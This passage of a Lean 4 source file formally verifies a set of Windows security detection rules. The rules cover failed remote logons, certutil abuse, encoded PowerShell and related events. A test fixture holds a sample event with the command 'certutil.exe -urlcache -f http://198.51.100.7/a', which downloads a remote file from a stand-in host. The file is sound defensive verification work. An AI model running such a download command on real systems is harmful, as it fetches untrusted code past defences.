  exact @verdict_contains _ _ startupPath _ _ ⟨"TargetFilename", "target_path", .text, true⟩ (.context rfl rfl) rfl
    (by decide) rfl rfl rfl rfl

/-- The outcome of a logon is the one of its row. -/
theorem verdict_failedOutcome {eventId : Int} {outcome : AuthenticationOutcome} :
    (WindowsSecurity.authenticationRow eventId outcome).verdict raw (.leaf failedOutcome) = .true ↔
      outcome = .failure := by
  have hpath : FieldPath .authentication failedOutcome.field .string := .context rfl rfl
  have hevidence : (WindowsSecurity.authenticationRow eventId outcome).evidence raw failedOutcome.field =
      some (.str (StrEnum.value outcome)) := rfl
  have hholds (x : Datum) : failedOutcome.Holds .string x ↔ x = .text "failure" := by
    show (∃ v ∈ [Value.str "failure"], ∃ y, operandDatum .string v = some y ∧ x = y) ↔ _
    simp [operandDatum, @eq_comm _ x]
  rw [Row.verdict_leaf (by decide) hpath, hevidence]
  simp only [hholds, exists_eq_right]
  cases outcome with
  | success => exact iff_of_false (by decide) (by decide)
  | failure => exact iff_of_true rfl rfl

theorem verdict_remoteLogonType {eventId : Int} {outcome : AuthenticationOutcome} :
    (WindowsSecurity.authenticationRow eventId outcome).verdict raw (.leaf remoteLogonType) = .true ↔
      ∃ text n, namedText raw "LogonType" = some text ∧ int text 10 = .ok n ∧ (n = 3 ∨ n = 10) := by
  have hpath : FieldPath .authentication remoteLogonType.field .integer := .context rfl rfl
  have hvalue : ((WindowsSecurity.authenticationRow eventId outcome).evidence raw remoteLogonType.field).bind
      Scalar.datum = ((namedText raw "LogonType").bind (natural 10)).map .number :=
    (@Row.evidence_column _ _ ⟨"LogonType", "logon_type", .number false, false⟩ _ _ rfl (by decide) rfl).trans
      (Column.datum_number rfl)
  have hholds (x : Datum) : remoteLogonType.Holds .integer x ↔ x = .number 3 ∨ x = .number 10 := by
    show (∃ v ∈ [Value.int 3, Value.int 10], ∃ y, operandDatum .integer v = some y ∧ x = y) ↔ _
    simp [operandDatum, @eq_comm _ x]
  rw [Row.verdict_leaf (by decide) hpath, hvalue]
  constructor
  · rintro ⟨x, hx, h⟩
    obtain ⟨n, hn, rfl⟩ := Option.map_eq_some_iff.mp hx
    obtain ⟨text, htext, hnatural⟩ := Option.bind_eq_some_iff.mp hn
    exact ⟨text, n, htext, (natural_eq_some.mp hnatural).1, by simpa using (hholds _).mp h⟩
  · rintro ⟨text, n, htext, hint, hn⟩
    have hnatural : natural 10 text = some n := natural_eq_some.mpr ⟨hint, by omega⟩
    exact ⟨.number n, by rw [htext, Option.bind_some, hnatural]; rfl, (hholds _).mpr (by simpa using hn)⟩

theorem detects_failed (hrow : row ∈ supportedRows) (hraw : row.Matches raw) :
    row.Detects raw failedRemoteAuthentication ↔ FromSecurity raw 4625 ∧
      ∃ text n, namedText raw "LogonType" = some text ∧ int text 10 = .ok n ∧ (n = 3 ∨ n = 10) := by
  have hrow' : WindowsSecurity.authenticationRow 4625 .failure ∈ supportedRows := by
    simp [supportedRows, WindowsSecurity.rows]
  refine @detects_iff _ _ _ _ _ failedRemoteAuthentication.condition rfl _ hrow hraw
    (fun row hrow hcategory hraw => ?_) fun h => ⟨_, hrow', rfl, h.1⟩
  show row.verdict raw (.all [.leaf failedOutcome, .leaf remoteLogonType]) = .true ↔ _
  rw [Row.verdict_all, List.forall_mem_cons, List.forall_mem_singleton]
  simp only [supportedRows, WindowsSecurity.rows, Sysmon.rows, List.mem_append, List.mem_cons, List.not_mem_nil,
    or_false] at hrow
  rcases hrow with (rfl | rfl | rfl) | rfl | rfl | rfl | rfl
  · rw [verdict_failedOutcome]
    refine iff_of_false (fun h => absurd h.1 (by decide)) fun h => ?_
    exact absurd (hraw.2.2.symm.trans h.1.2.2) (by decide)
  · rw [verdict_failedOutcome, verdict_remoteLogonType]
    exact and_congr_left' (iff_of_true rfl hraw)
  all_goals cases hcategory

/-- The rules detect the events that they are about. -/
theorem triggers_iff (hrow : row ∈ supportedRows) (hraw : row.Matches raw) {id : String} :
    Triggers raw id ↔ ∃ r ∈ windowsRules, r.id = id ∧ row.Detects raw r := by
  constructor
  · intro h
    -- one constructor for each rule
    cases h with
    | failedRemoteAuthentication hfrom htext hint hn =>
      exact ⟨failedRemoteAuthentication, by simp [windowsRules], rfl,
        (detects_failed hrow hraw).mpr ⟨hfrom, _, _, htext, hint, hn⟩⟩
    | certutilSuspiciousArguments hstarts himage hcommand =>
      exact ⟨certutilSuspiciousArguments, by simp [windowsRules], rfl,
        (detects_certutil hrow hraw).mpr ⟨_, _, hstarts, himage, hcommand⟩⟩
    | powershellEncodedCommand hstarts himage hcommand =>
      exact ⟨powershellEncodedCommand, by simp [windowsRules], rfl,
        (detects_powershell hrow hraw).mpr ⟨_, _, hstarts, himage, hcommand⟩⟩
    | dnsSuspiciousQueryMarker hfrom hname hquery =>
      exact ⟨dnsSuspiciousQueryMarker, by simp [windowsRules], rfl,
        (detects_dns hrow hraw).mpr ⟨hfrom, _, hname, hquery⟩⟩
    | powershellNetworkConnection hfrom hname himage =>
      exact ⟨powershellNetworkConnection, by simp [windowsRules], rfl,
        (detects_network hrow hraw).mpr ⟨hfrom, _, hname, himage⟩⟩
    | startupFolderFileActivity hfrom hname hpath =>
      exact ⟨startupFolderFileActivity, by simp [windowsRules], rfl,
        (detects_file hrow hraw).mpr ⟨hfrom, _, hname, hpath⟩⟩
  · rintro ⟨r, hr, rfl, h⟩
    simp only [windowsRules, List.mem_cons, List.not_mem_nil, or_false] at hr
    rcases hr with rfl | rfl | rfl | rfl | rfl | rfl
    · obtain ⟨hfrom, _, _, htext, hint, hn⟩ := (detects_failed hrow hraw).mp h
      exact .failedRemoteAuthentication hfrom htext hint hn
    · obtain ⟨_, _, hstarts, himage, hcommand⟩ := (detects_certutil hrow hraw).mp h
      exact .certutilSuspiciousArguments hstarts himage hcommand
    · obtain ⟨_, _, hstarts, himage, hcommand⟩ := (detects_powershell hrow hraw).mp h
      exact .powershellEncodedCommand hstarts himage hcommand
    · obtain ⟨hfrom, _, hname, hquery⟩ := (detects_dns hrow hraw).mp h
      exact .dnsSuspiciousQueryMarker hfrom hname hquery
    · obtain ⟨hfrom, _, hname, himage⟩ := (detects_network hrow hraw).mp h
      exact .powershellNetworkConnection hfrom hname himage
    · obtain ⟨hfrom, _, hname, hpath⟩ := (detects_file hrow hraw).mp h
      exact .startupFolderFileActivity hfrom hname hpath

/-- A started process has one image. -/
theorem StartsProcess.image_unique {image image' command command' : String}
    (h : StartsProcess raw image command) (h' : StartsProcess raw image' command') : image = image' := by
  rcases h with ⟨hfrom, himage, -⟩ | ⟨hfrom, himage, -⟩
  · rcases h' with ⟨-, himage', -⟩ | ⟨hfrom', -, -⟩
    · exact Option.some.inj (himage.symm.trans himage')
    · exact absurd (hfrom.2.2.symm.trans hfrom'.2.2) (by decide)
  · rcases h' with ⟨hfrom', -, -⟩ | ⟨-, himage', -⟩
    · exact absurd (hfrom.2.2.symm.trans hfrom'.2.2) (by decide)
    · exact Option.some.inj (himage.symm.trans himage')

/-- The process rules are about different images. -/
theorem not_certutil_and_powershell (hrow : row ∈ supportedRows) (hraw : row.Matches raw)
    (hcertutil : row.Detects raw certutilSuspiciousArguments) : ¬ row.Detects raw powershellEncodedCommand := by
  intro hpowershell
  obtain ⟨image, _, hstarts, hsuffix, -⟩ := (detects_certutil hrow hraw).mp hcertutil
  obtain ⟨image', _, hstarts', himage, -⟩ := (detects_powershell hrow hraw).mp hpowershell
  obtain rfl := hstarts.image_unique hstarts'
  rcases himage with hsuffix' | hsuffix'
  · exact absurd (List.suffix_or_suffix_of_suffix hsuffix hsuffix') (by decide)
  · exact absurd (List.suffix_or_suffix_of_suffix hsuffix hsuffix') (by decide)

/-- No event is detected by two of the rules. -/
theorem id_unique (hrow : row ∈ supportedRows) (hraw : row.Matches raw) {r r' : DetectionRule}
    (hr : r ∈ windowsRules) (hr' : r' ∈ windowsRules) (h : row.Detects raw r) (h' : row.Detects raw r') :
    r.id = r'.id := by
  have hnot := not_certutil_and_powershell hrow hraw
  simp only [windowsRules, List.mem_cons, List.not_mem_nil, or_false] at hr hr'
  rcases hr with rfl | rfl | rfl | rfl | rfl | rfl <;> rcases hr' with rfl | rfl | rfl | rfl | rfl | rfl
  all_goals first
    | rfl
    | exact absurd h' (hnot h)
    | exact absurd h (hnot h')
    | exact absurd ((List.mem_singleton.mp h.1).symm.trans (List.mem_singleton.mp h'.1)) (by decide)

end Detect

section Exact

variable {rules : List DetectionRule} {fromstring : String → Except ParseError Element} {xml : String}
  {event : NormalizedEvent}

theorem rules_of_documents
    (hdocuments : List.Forall₂ (fun d r => DetectionRule.modelValidate d = ok r) documents rules) :
    rules = windowsRules := by
  refine List.right_unique_forall₂' (fun d r r' h h' => ?_) hdocuments modelValidate_documents
  cases h.symm.trans h'
  rfl

/-- **What the rule files detect.**  The rules that the six documents are validated to, in any order, detect in an
event text what they are about, and at most one of them detects anything. -/
theorem windowsRules_exact {library : List DetectionRule}
    (hdocuments : List.Forall₂ (fun d r => DetectionRule.modelValidate d = ok r) documents rules)
    (hlibrary : library.Perm rules) (hevent : normalizeWindowsEventXml fromstring xml = .ok event) :
    ∃ raw, WindowsEvent.parseWindowsEventXml fromstring xml = .ok raw ∧
      ∃ ms, evaluateEvent (some event) (some (library.map some)) = .ok ms ∧ ms.length ≤ 1 ∧
        ∀ id, id ∈ ms.map (·.ruleId) ↔ Triggers raw id := by
  obtain rfl := rules_of_documents hdocuments
  have hids : (library.map (·.id)).Nodup := (hlibrary.map _).nodup_iff.mpr (by decide)
  have hsemantics : ∀ r ∈ library, validateDetectionRuleSemantics r = .ok () := by
    have hall : ∀ r ∈ windowsRules, validateDetectionRuleSemantics r = .ok () := by decide
    exact fun r hr => hall r (hlibrary.mem_iff.mp hr)
  obtain ⟨raw, hparse, row, hrow, hraw, ms, hms, hnodup, hiff⟩ := detects_of_semantics hids hsemantics hevent
  have htriggers (id : String) : id ∈ ms.map (·.ruleId) ↔ Triggers raw id := by
    rw [hiff, triggers_iff hrow hraw]
    simp only [hlibrary.mem_iff]
  have hunique : ∀ m ∈ ms, ∀ m' ∈ ms, m.ruleId = m'.ruleId := by
    intro m hm m' hm'
    obtain ⟨r, hr, hid, h⟩ := (hiff _).mp (List.mem_map_of_mem hm)
    obtain ⟨r', hr', hid', h'⟩ := (hiff _).mp (List.mem_map_of_mem hm')
    rw [← hid, ← hid']
    exact id_unique hrow hraw (hlibrary.mem_iff.mp hr) (hlibrary.mem_iff.mp hr') h h'
  refine ⟨raw, hparse, ms, hms, ?_, htriggers⟩
  cases ms with
  | nil => simp
  | cons m rest =>
    cases rest with
    | nil => simp
    | cons m' rest =>
      have hid := hunique m (by simp) m' (by simp)
      exact absurd (by simp [hid]) (List.nodup_cons.mp hnodup).1

/-- A process that `certutil` was started as, and that fetches a file. -/
def certutilXml : String :=
  "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>" ++
  "<Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID>" ++
  "<TimeCreated SystemTime='2024-05-01T10:00:00Z'/><Channel>Security</Channel><Computer>host</Computer>" ++
  "</System><EventData><Data Name='NewProcessId'>0x1a4</Data>" ++
  "<Data Name='NewProcessName'>C:\\Windows\\certutil.exe</Data>" ++
  "<Data Name='CommandLine'>certutil.exe -urlcache -f http://198.51.100.7/a</Data></EventData></Event>"

/-- A parser that knows the text. -/
def certutilParser (xml : String) : Except ParseError Element :=
  if xml = certutilXml then
    .ok (securityTree "4688" [("NewProcessId", "0x1a4"), ("NewProcessName", "C:\\Windows\\certutil.exe"),
      ("CommandLine", "certutil.exe -urlcache -f http://198.51.100.7/a")])
  else .error ⟨⟩

theorem windowsRules_exact_example : ∃ event ms, normalizeWindowsEventXml certutilParser certutilXml = .ok event ∧
    evaluateEvent (some event) (some (windowsRules.reverse.map some)) = .ok ms ∧
      ms.map (·.ruleId) = ["certutil-suspicious-arguments"] := by
  obtain ⟨event, hevent, -⟩ := exists_of_map_ok
    (show (normalizeWindowsEventXml certutilParser certutilXml).map (fun _ => ()) = .ok () by decide +kernel)
  obtain ⟨raw, hparse, ms, hms, hlength, hiff⟩ :=
    windowsRules_exact modelValidate_documents windowsRules.reverse_perm hevent
  have hraw := congrArg (Except.map fun raw : RawWindowsEvent => (raw.provider.val, raw.channel.val, raw.eventId.val,
    namedText raw "NewProcessName", namedText raw "CommandLine")) hparse
  have hvalues : (WindowsEvent.parseWindowsEventXml certutilParser certutilXml).map (fun raw : RawWindowsEvent =>
      (raw.provider.val, raw.channel.val, raw.eventId.val, namedText raw "NewProcessName",
        namedText raw "CommandLine")) =
      .ok (windowsSecurityProvider, "Security", 4688, some "C:\\Windows\\certutil.exe",
        some "certutil.exe -urlcache -f http://198.51.100.7/a") := by decide +kernel
  have hsame := Except.ok.inj (hraw.symm.trans hvalues)
  simp only [Prod.mk.injEq] at hsame
  obtain ⟨hprovider, hchannel, hid, himage, hcommand⟩ := hsame
  have himageEnds : "\\certutil.exe".toList <:+ "C:\\Windows\\certutil.exe".toList := by decide
  have hcommandHas : " -urlcache ".toList <:+: "certutil.exe -urlcache -f http://198.51.100.7/a".toList := by decide
  have htriggers : Triggers raw "certutil-suspicious-arguments" :=
    .certutilSuspiciousArguments (.audit ⟨hprovider, hchannel, hid⟩ himage hcommand) himageEnds
      ⟨" -urlcache ", by simp, hcommandHas⟩
  have hmem := (hiff _).mpr htriggers
  refine ⟨event, ms, hevent, hms, ?_⟩
  obtain ⟨m, hm, hrule⟩ := List.mem_map.mp hmem
  obtain ⟨m', rfl⟩ := List.length_eq_one_iff.mp (le_antisymm hlength (List.length_pos_of_mem hm))
  rw [List.map_singleton, ← hrule, List.mem_singleton.mp hm]

end Exact

end WindowsRules

end SocLab
